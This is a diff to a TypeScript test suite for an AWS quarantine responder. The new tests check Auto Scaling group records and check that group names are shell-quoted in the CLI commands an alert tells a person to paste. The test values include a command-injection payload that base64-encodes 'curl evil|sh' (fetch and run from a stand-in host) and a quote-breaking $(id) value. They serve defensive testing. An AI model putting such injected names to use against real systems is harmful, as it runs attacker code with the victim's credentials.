@@ -55,6 +55,7 @@ import { silentLogger } from '../../lib/responders/logging';
 import type { QuarantineOptions } from '../../lib/responders/quarantine';
 import { quarantineInstance } from '../../lib/responders/quarantine';
 import { planAutoScaling } from '../../lib/responders/quarantine-autoscaling';
+import { oneLine } from '../../lib/responders/alert-text';
 import type { QuarantineRecord } from '../../lib/responders/quarantine-records';
 import { DynamoDbQuarantineRecordStore, InMemoryQuarantineRecordStore } from '../../lib/responders/quarantine-records';
 import { KmsRecordSealer, canonicalRecord, recordMacMessage } from '../../lib/responders/record-integrity';
@@ -762,6 +763,27 @@ describe('ATTACK (pending-wait): an instance held in Pending:Wait by a launch ho
     expect(inputsOf(asMock, RecordLifecycleActionHeartbeatCommand).map((i) => i.LifecycleHookName)).toEqual(['warm-cache', 'register-dns']);
   });
 
+  it('ATTACK (review-3q): a later run that finds it InService records the group it takes it out of, so that release puts it back (the Pending:Wait record never blocks it)', async () => {
+    // The person completed the hook with CONTINUE (as the warning says), or its default result was
+    // CONTINUE: the group put the isolated instance in service, and a new execution (a retry, the
+    // finding updated) detaches it. The kept record said Pending:Wait: release would have answered
+    // "never took it out" and left it outside its group for good, the summary a false statement.
+    givenGroup('Pending:Wait', {}, HOOKS);
+    asMock.on(RecordLifecycleActionHeartbeatCommand).resolves({});
+    const first = await quarantine({ deregisterFromLoadBalancers: false });
+    expect(first.preQuarantine?.autoScaling).toMatchObject({ lifecycleState: 'Pending:Wait' });
+    const capturedAt = first.preQuarantine?.capturedAt;
+    givenGroup('InService', {}, HOOKS);
+    const second = await quarantine({ deregisterFromLoadBalancers: false });
+    expect(second.status).toBe('quarantined');
+    expect(inputsOf(asMock, DetachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
+    const kept = await records.get(ACCOUNT, REGION, INSTANCE_ID);
+    // The original capture is kept (its ENI groups, its time); only the group it leaves now is new.
+    expect(kept?.capturedAt).toBe(capturedAt);
+    expect(kept?.autoScaling).toMatchObject({ groupName: GROUP, lifecycleState: 'InService', mode: 'detach', protectedFromScaleIn: false });
+    expect(second.preQuarantine?.autoScaling).toMatchObject({ lifecycleState: 'InService' });
+  });
+
   it('sends no heartbeat when no launch hook holds it (Pending:Wait with none listed, or Pending)', async () => {
     givenGroup('Pending:Wait', {}, [HOOKS[2]!]);
     const result = await quarantine({ deregisterFromLoadBalancers: false });
@@ -1379,5 +1401,49 @@ describe('review-3j: what the checks of rows 3j-3l compare with (rows 3m-3o)', (
     expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
     expect(released.actions.find((a) => a.api === 'autoscaling:ExitStandby')).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('could not be described') as unknown });
     expect(released.fleet?.autoScaling).toContain('could not be described');
+  });
+});
+
+describe('ATTACK (review-3q): the Pending:Wait warning\'s AWS CLI commands name a group whoever creates it names', () => {
+  // A group's name may hold any ASCII character 33 to 126 but the colon (API_CreateAutoScalingGroup.html):
+  // `;`, `$(…)`, backticks, `|`, quotes. Whoever may create a group (the compromised instance's role,
+  // say) names one so that the command the alert asks a person to paste, with their own credentials,
+  // runs theirs too. Each name is one shell word, single-quoted: nothing in it is run.
+  const hooked = (groupName: string) => ({
+    groupName,
+    minSize: 1,
+    maxSize: 3,
+    desiredCapacity: 3,
+    healthCheckType: 'EC2',
+    suspendedProcesses: [],
+    targetGroupArns: [],
+    loadBalancerNames: [],
+    lifecycleHooks: [{ name: 'warm-cache', transition: 'autoscaling:EC2_INSTANCE_LAUNCHING', heartbeatTimeout: 600 }],
+  });
+  const warningFor = (groupName: string) =>
+    planAutoScaling({ kind: 'member', groupName, lifecycleState: 'Pending:Wait', protectedFromScaleIn: false, group: hooked(groupName) }, INSTANCE_ID, 'detach').warnings.join(' ');
+  /** Every `--auto-scaling-group-name` argument, as a POSIX shell reads it up to the next space (none is inside the quotes: names have none). */
+  const groupArguments = (warning: string) => [...warning.matchAll(/--auto-scaling-group-name (\S+)/g)].map((m) => m[1]);
+
+  it('ATTACK (review-3q): single-quotes a group name holding $( ), ; or backticks in every command', () => {
+    const evil = 'web$(echo${IFS}Y3VybCBldmlsfHNo|base64${IFS}-d|sh);`id`;x';
+    const warning = warningFor(evil);
+    const args = groupArguments(warning);
+    expect(args).toHaveLength(3);
+    for (const arg of args) expect(arg).toBe(`'${evil}'`);
+    expect(warning).not.toContain(`--auto-scaling-group-name ${evil}`);
+    // As the alert shows it (neutralized, one line): still one quoted word each.
+    for (const arg of groupArguments(oneLine(warning))) expect(arg).toBe(`'${evil}'`);
+  });
+
+  it('ATTACK (review-3q): a single quote in the name cannot close the quoting', () => {
+    const evil = "web'$(id)'x";
+    const args = groupArguments(warningFor(evil));
+    expect(args).toHaveLength(3);
+    for (const arg of args) expect(arg).toBe(`'web'\\''$(id)'\\''x'`);
+  });
+
+  it('leaves a plain group name as it is', () => {
+    expect(groupArguments(warningFor('web-asg_1.prod/blue'))).toEqual(['web-asg_1.prod/blue', 'web-asg_1.prod/blue', 'web-asg_1.prod/blue']);
   });
 });
